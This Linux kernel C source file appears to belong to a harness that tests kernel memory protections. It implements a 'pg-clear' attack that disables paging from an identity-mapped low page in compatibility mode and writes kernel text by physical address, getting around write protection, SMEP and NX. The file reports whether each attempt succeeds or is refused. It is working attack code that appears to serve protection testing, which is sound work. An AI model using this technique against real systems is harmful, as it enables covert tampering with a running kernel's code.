// SPDX-License-Identifier: GPL-2.0-only
/*
 * Paging switched off: on a page mapped at its own physical address, compatibility mode, then
 * CR0.PG cleared. No page table, no WP, no SMEP and no NX is left, and a byte of kernel text is
 * written by its physical address. Then everything is switched on again.
 */
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/pgtable.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <linux/string.h>
#include <asm/cpufeature.h>
#include <asm/io.h>
#include <asm/realmode.h>
#include <asm/special_insns.h>

#include "attack.h"
#include "execute.h"
#include "memory.h"

/* Linux keeps the first MiB for firmware and its own start-up code: these pages nobody uses. */
#define LOW_PA	  0x8000
#define LOW_PAGES 4 /* one of code, the rest is stack, also for a fault in there */
#define LOW_SIZE  (LOW_PAGES * PAGE_SIZE)

extern const u8 unpaged_begin[], unpaged_resume[], unpaged_end[];

/*
 * Called with the physical address to write in RDI and the byte in RSI. RBX, RBP and the stack
 * pointer are saved on the page, because compatibility mode need not keep upper halves; R12 to
 * R15 do not exist there and are left alone.
 */
asm(".pushsection .rodata\n"
    "	.balign 16\n"
    "unpaged_begin:\n"
    "	mov %rsp, unpaged_rsp(%rip)\n"
    "	mov %rbx, unpaged_rbx(%rip)\n"
    "	mov %rbp, unpaged_rbp(%rip)\n"
    "	mov $0x8000 + 0x4000 - 64, %esp\n"
    "	mov %ds, %ebp\n"
    "	mov $0x18, %eax\n" /* __KERNEL_DS: a null selector is no use there */
    "	mov %eax, %ds\n"
    "	pushq $0x08\n" /* __KERNEL32_CS */
    "	lea unpaged_32(%rip), %rax\n"
    "	push %rax\n"
    "	lretq\n"
    "	.code32\n"
    "unpaged_32:\n"
    "	mov %cr0, %eax\n"
    "	mov %eax, %ebx\n"
    "	and $0x7fffffff, %eax\n"
    "	mov %eax, %cr0\n"
    "	mov %esi, %ecx\n"
    "	mov %cl, (%edi)\n"
    "	mov %ebx, %cr0\n"
    "	ljmpl $0x10, $0x8000 + unpaged_resume - unpaged_begin\n"
    "	.code64\n"
    "unpaged_resume:\n"
    "	mov %ebp, %ds\n"
    "	mov unpaged_rsp(%rip), %rsp\n"
    "	mov unpaged_rbx(%rip), %rbx\n"
    "	mov unpaged_rbp(%rip), %rbp\n"
    "	ret\n"
    "	int3\n"
    "	.balign 8\n"
    "unpaged_rsp: .quad 0\n"
    "unpaged_rbx: .quad 0\n"
    "unpaged_rbp: .quad 0\n"
    "unpaged_end:\n"
    ".popsection\n");

/* The kernel's page tables with one more translation: the low pages at their own address. */
struct unpaged {
	u64 *table[5]; /* root first */
	unsigned int levels;
	u8 *saved; /* what the low pages held */
};

static void unpaged_free(struct unpaged *u)
{
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(u->table); i++)
		free_page((unsigned long)u->table[i]);
	kfree(u->saved);
}

static int unpaged_prepare(struct unpaged *u)
{
	unsigned int i, last;

	u->levels = cpu_feature_enabled(X86_FEATURE_LA57) ? 5 : 4;
	last = u->levels - 1;
	u->saved = kmalloc(LOW_SIZE, GFP_KERNEL);
	for (i = 0; i < u->levels; i++)
		u->table[i] = (u64 *)get_zeroed_page(GFP_KERNEL);
	for (i = 0; i < u->levels; i++)
		if (!u->table[i] || !u->saved)
			return -ENOMEM;
	memcpy(u->table[0], __va(__read_cr3() & CR3_ADDR_MASK), PAGE_SIZE);
	for (i = 0; i < last; i++)
		u->table[i][0] = virt_to_phys(u->table[i + 1]) | _KERNPG_TABLE_NOENC;
	for (i = 0; i < LOW_PAGES; i++)
		u->table[last][LOW_PA / PAGE_SIZE + i] = (LOW_PA + i * PAGE_SIZE) |
							 _KERNPG_TABLE_NOENC;
	memcpy(u->saved, __va(LOW_PA), LOW_SIZE);
	return 0;
}

static int unpaged_run(struct unpaged *u, struct attempt *t)
{
	u64 target = ((u64)t->pfn << PAGE_SHIFT) + offset_in_page(t->va);
	unsigned long flags, cr3, cr4;
	int trap;

	memcpy(__va(LOW_PA), unpaged_begin, unpaged_end - unpaged_begin);
	local_irq_save(flags);
	cr3 = __read_cr3();
	native_write_cr3(virt_to_phys(u->table[0]));
	/* With identifiers of address spaces the processor refuses. */
	cr4 = native_read_cr4();
	asm volatile("movq %0, %%cr4" : : "r"(cr4 & ~X86_CR4_PCIDE) : "memory");
	trap = execute_call((void *)LOW_PA, PAGE_SIZE, target, t->wanted,
			    (void *)LOW_PA + (unpaged_resume - unpaged_begin), NULL);
	asm volatile("movq %0, %%cr4" : : "r"(cr4) : "memory");
	native_write_cr3(cr3);
	local_irq_restore(flags);
	memcpy(__va(LOW_PA), u->saved, LOW_SIZE);
	return trap;
}

static bool low_pages_are_free(void)
{
	struct real_mode_header **header = attack_symbol("real_mode_header");
	u64 pa = header && *header ? virt_to_phys(*header) : 0;

	return pa >= LOW_PA + LOW_SIZE;
}

static enum attack_outcome pg_clear(struct attempt *t)
{
	struct unpaged u = { 0 };
	int err = memory_target_text(t);

	if (!err)
		err = low_pages_are_free() ? unpaged_prepare(&u) : -EBUSY;
	if (err) {
		attack_note(t, "cannot prepare: %d", err);
		unpaged_free(&u);
		return ATTACK_ERROR;
	}
	t->trap = unpaged_run(&u, t);
	unpaged_free(&u);
	return t->trap == TRAP_NONE ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

static const struct attack unpaged_attacks[] = {
	{
		.name = "pg-clear",
		.title = "switch paging off and write kernel text",
		.gives = "no page tables, no WP, no SMEP, no NX",
		.asset = "CR0",
		.control = ATTACK_BARE,
		.own_vm = true,
		.run = pg_clear,
		.look = memory_look,
		.undo = memory_undo,
	},
};

const struct attack_table unpaged_table = { unpaged_attacks, ARRAY_SIZE(unpaged_attacks) };
